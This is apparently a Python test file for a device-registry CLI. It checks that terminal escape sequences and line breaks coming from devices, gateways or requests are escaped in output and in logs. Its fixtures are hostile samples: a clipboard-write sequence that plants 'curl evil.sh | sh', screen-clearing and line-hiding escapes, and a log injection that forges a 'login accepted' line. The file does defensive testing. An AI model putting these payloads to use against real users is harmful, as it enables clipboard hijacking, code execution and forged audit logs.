"""What the CLI prints and what the logs hold cannot be driven by a remote string: a device's
answer or error, a gateway's record or a client's request path carrying terminal escapes
(clipboard writes, screen clears, cursor moves, hidden links) or a line break that would
start a forged log line is printed with those characters escaped."""

from __future__ import annotations

import json
import logging
from concurrent import futures

import grpc
from click.testing import CliRunner

from edgistry.cli import main
from edgistry.firmware.caplets import api as cl
from edgistry.proto import discovery_pb2 as dpb
from edgistry.proto import discovery_pb2_grpc as dgrpc
from edgistry.proto import gateway_pb2 as gpb
from edgistry.proto import gateway_pb2_grpc as ggrpc
from edgistry.textsafe import SafeLogFormatter, safe

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # the clipboard := "curl evil.sh | sh"
WIPE = "\x1b[2J\x1b[H"  # clear the screen, cursor home
HIDE = "\x1b[1A\x1b[2K"  # cursor up, erase the line


def test_safe_escapes_what_drives_a_terminal_and_keeps_text():
    assert safe("21.5 °C, héllo") == "21.5 °C, héllo"
    assert safe("a\x1bb\x07c\x9bd\u202ee\nf") == "a\\x1bb\\x07c\\x9bd\\u202ee\\x0af"


def test_cli_output_of_a_hostile_device_and_gateway_is_escaped(tmp_path):
    class Gateway(ggrpc.GatewayServicer):
        def GetResult(self, req, ctx):  # noqa: N802 (gRPC's name)
            if req.request_id.startswith("f"):
                return gpb.Result(request_id=req.request_id, state=6, error="sensor fault" + HIDE + "\x1b]8;;x\x07")
            return gpb.Result(request_id=req.request_id, state=3,
                              payload=json.dumps(OSC52 + WIPE + "temperature: 21.5 C").encode())

    class Discovery(dgrpc.DiscoveryServicer):
        def Discover(self, req, ctx):  # noqa: N802
            return dpb.DiscoverResponse(handles=[dpb.Handle(handle="h1" + OSC52, cell=0x87283082fffffff,
                                                            gateway="gw:1" + WIPE)])

    server = grpc.server(futures.ThreadPoolExecutor(max_workers=2))
    ggrpc.add_GatewayServicer_to_server(Gateway(), server)
    dgrpc.add_DiscoveryServicer_to_server(Discovery(), server)
    port = server.add_insecure_port("127.0.0.1:0")
    server.start()
    try:
        token = tmp_path / "app.token"
        token.write_bytes(cl.mint(b"g" * 32, [cl.Identity("app")]).to_bytes())
        conn = ["--gateway", f"127.0.0.1:{port}", "--token", str(token), "--insecure"]
        for args in (["result", "a" * 32, *conn], ["result", "f" * 32, *conn],
                     ["discover", "sensor", "--near", "1,1", *conn]):
            res = CliRunner().invoke(main, args, color=True)  # color: what a terminal would get
            out = res.stdout + res.stderr
            assert "\x1b" not in out and "\x07" not in out, (args, out)
            assert "\\x1b" in out  # shown, escaped: nothing hidden either
    finally:
        server.stop(0)


def test_a_logged_line_break_starts_no_forged_line():
    record = logging.LogRecord("edgistry.gateway.link", logging.INFO, __file__, 1,
                               "%s: device reported error %d (%s)", ("link 01", 1,
                               "x)\n2099-01-01 00:00:00,000 WARNING edgistry.gateway.status.auth: login accepted ("),
                               None)
    line = SafeLogFormatter("%(asctime)s %(levelname)s %(name)s: %(message)s").format(record)
    assert "\n" not in line and "\\x0a2099-01-01" in line
